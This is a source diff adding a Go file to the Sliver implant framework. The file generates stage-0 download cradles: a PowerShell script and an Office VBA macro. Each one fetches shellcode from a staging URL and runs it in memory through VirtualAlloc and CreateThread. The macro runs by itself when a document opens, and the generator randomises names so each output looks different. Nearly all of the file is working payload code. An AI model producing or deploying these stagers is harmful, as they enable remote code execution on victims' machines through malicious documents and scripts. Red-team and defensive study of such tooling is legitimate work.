@@ -0,0 +1,131 @@
+package generate
+
+/*
+	Sliver Implant Framework
+	Copyright (C) 2020  Bishop Fox
+
+	This program is free software: you can redistribute it and/or modify
+	it under the terms of the GNU General Public License as published by
+	the Free Software Foundation, either version 3 of the License, or
+	(at your option) any later version.
+
+	This program is distributed in the hope that it will be useful,
+	but WITHOUT ANY WARRANTY; without even the implied warranty of
+	MERCHANTABILITY or FITNESS FOR A PARTICULAR PURPOSE.  See the
+	GNU General Public License for more details.
+
+	You should have received a copy of the GNU General Public License
+	along with this program.  If not, see <https://www.gnu.org/licenses/>.
+*/
+
+import (
+	"bytes"
+	insecureRand "math/rand"
+	"text/template"
+)
+
+const (
+	stagerIdentifierSize    = 8
+	stagerIdentifierCharSet = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz"
+)
+
+// Stage-0 download cradles, they fetch the implant shellcode from a HTTP(S)
+// staging listener and run it in the current process. Certificate errors are
+// ignored since staging listeners usually use self-signed certificates.
+
+var powerShellStagerTmpl = template.Must(template.New("ps1").Parse(`[Net.ServicePointManager]::ServerCertificateValidationCallback = {$true}
+[Net.ServicePointManager]::SecurityProtocol = [Net.SecurityProtocolType]::Tls12
+$s = (New-Object Net.WebClient).DownloadData('{{.URL}}')
+Add-Type -Namespace {{.Namespace}} -Name {{.Name}} -MemberDefinition @'
+[DllImport("kernel32.dll")] public static extern IntPtr VirtualAlloc(IntPtr a, UIntPtr s, uint t, uint p);
+[DllImport("kernel32.dll")] public static extern bool VirtualProtect(IntPtr a, UIntPtr s, uint p, out uint o);
+[DllImport("kernel32.dll")] public static extern IntPtr CreateThread(IntPtr a, UIntPtr s, IntPtr f, IntPtr p, uint c, IntPtr i);
+[DllImport("kernel32.dll")] public static extern uint WaitForSingleObject(IntPtr h, uint t);
+'@
+$k = [{{.Namespace}}.{{.Name}}]
+$p = $k::VirtualAlloc([IntPtr]::Zero, [UIntPtr][uint64]$s.Length, 0x3000, 0x04)
+[Runtime.InteropServices.Marshal]::Copy($s, 0, $p, $s.Length)
+$o = 0
+$k::VirtualProtect($p, [UIntPtr][uint64]$s.Length, 0x20, [ref]$o) | Out-Null
+$t = $k::CreateThread([IntPtr]::Zero, [UIntPtr]::Zero, $p, [IntPtr]::Zero, 0, [IntPtr]::Zero)
+$k::WaitForSingleObject($t, [uint32]::MaxValue) | Out-Null
+`))
+
+var vbaStagerTmpl = template.Must(template.New("vba").Parse(`#If VBA7 Then
+Private Declare PtrSafe Function VirtualAlloc Lib "kernel32" (ByVal lpAddress As LongPtr, ByVal dwSize As Long, ByVal flAllocationType As Long, ByVal flProtect As Long) As LongPtr
+Private Declare PtrSafe Function RtlMoveMemory Lib "kernel32" (ByVal lDestination As LongPtr, ByRef sSource As Any, ByVal lLength As Long) As LongPtr
+Private Declare PtrSafe Function CreateThread Lib "kernel32" (ByVal lpThreadAttributes As Long, ByVal dwStackSize As Long, ByVal lpStartAddress As LongPtr, ByVal lpParameter As LongPtr, ByVal dwCreationFlags As Long, ByRef lpThreadId As Long) As LongPtr
+#Else
+Private Declare Function VirtualAlloc Lib "kernel32" (ByVal lpAddress As Long, ByVal dwSize As Long, ByVal flAllocationType As Long, ByVal flProtect As Long) As Long
+Private Declare Function RtlMoveMemory Lib "kernel32" (ByVal lDestination As Long, ByRef sSource As Any, ByVal lLength As Long) As Long
+Private Declare Function CreateThread Lib "kernel32" (ByVal lpThreadAttributes As Long, ByVal dwStackSize As Long, ByVal lpStartAddress As Long, ByVal lpParameter As Long, ByVal dwCreationFlags As Long, ByRef lpThreadId As Long) As Long
+#End If
+
+Sub AutoOpen()
+    {{.Name}}
+End Sub
+
+Sub Document_Open()
+    {{.Name}}
+End Sub
+
+Sub Workbook_Open()
+    {{.Name}}
+End Sub
+
+Private Sub {{.Name}}()
+    Dim req As Object
+    Set req = CreateObject("MSXML2.ServerXMLHTTP.6.0")
+    req.setOption 2, 13056
+    req.Open "GET", "{{.URL}}", False
+    req.Send
+    If req.Status <> 200 Then Exit Sub
+    Dim buf() As Byte
+    buf = req.responseBody
+#If VBA7 Then
+    Dim addr As LongPtr
+#Else
+    Dim addr As Long
+#End If
+    Dim tid As Long
+    addr = VirtualAlloc(0, UBound(buf) + 1, &H3000, &H40)
+    RtlMoveMemory addr, buf(0), UBound(buf) + 1
+    CreateThread 0, 0, addr, 0, 0, tid
+End Sub
+`))
+
+type stagerTmplData struct {
+	URL       string
+	Namespace string
+	Name      string
+}
+
+// StagerPowerShell - A PowerShell script that downloads and runs the stage at url
+func StagerPowerShell(url string) ([]byte, error) {
+	return renderStager(powerShellStagerTmpl, url)
+}
+
+// StagerVBA - An Office macro that downloads and runs the stage at url, the
+// stage must match the Office architecture (usually x86)
+func StagerVBA(url string) ([]byte, error) {
+	return renderStager(vbaStagerTmpl, url)
+}
+
+func renderStager(tmpl *template.Template, url string) ([]byte, error) {
+	buf := &bytes.Buffer{}
+	err := tmpl.Execute(buf, stagerTmplData{
+		URL:       url,
+		Namespace: stagerIdentifier(),
+		Name:      stagerIdentifier(),
+	})
+	return buf.Bytes(), err
+}
+
+// stagerIdentifier - A random identifier so the generated code isn't the same every time
+func stagerIdentifier() string {
+	ident := make([]byte, stagerIdentifierSize)
+	for i := range ident {
+		ident[i] = stagerIdentifierCharSet[insecureRand.Intn(len(stagerIdentifierCharSet))]
+	}
+	return string(ident)
+}